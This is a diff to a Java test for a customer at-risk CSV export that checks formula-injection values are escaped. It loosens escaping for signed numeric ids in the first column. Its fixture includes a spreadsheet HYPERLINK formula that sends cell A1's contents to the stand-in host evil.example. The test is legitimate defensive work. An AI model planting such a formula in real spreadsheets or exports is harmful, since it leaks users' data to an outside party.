@@ -81,10 +81,11 @@ class AtRiskExportTest {
     List<CSVRecord> parsed = ExportCsv.read(w.localFile());
     ExportCsv.assertSameRows(expected, parsed);
     assertThat(parsed.stream().map(r -> r.get(0)).toList()).containsExactly(
-        "'+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "'-2",
-        QUOTED, "plain"); // value at risk 375, 200, 91, 27.50, 0, -2, unknown CLV last
+        "+1", NEWLINES, "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(A1:A9)", "-2",
+        QUOTED, "plain"); // value at risk 375, 200, 91, 27.50, 0, -2, unknown CLV last; numeric ids unchanged
     for (CSVRecord r : parsed) {
-      for (int i : new int[] {0, 2, 3, 9}) {
+      assertThat(r.get(0)).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("\t");
+      for (int i : new int[] {2, 3, 9}) {
         assertThat(r.get(i)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
             .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
       }
@@ -112,7 +113,7 @@ class AtRiskExportTest {
     ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, null, null)), out, AS_OF, "v1");
     ExportWriter.Written w = ExportWriter.write(AtRiskExport.compute(scores(), clv(), options(out, 2, null)), out,
         AS_OF, "v2");
-    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("'+1", NEWLINES);
+    assertThat(ExportCsv.read(w.localFile())).extracting(r -> r.get(0)).containsExactly("+1", NEWLINES);
     try (Stream<Path> s = Files.list(w.localFolder().getParent())) {
       assertThat(s.count()).isEqualTo(1);
     }
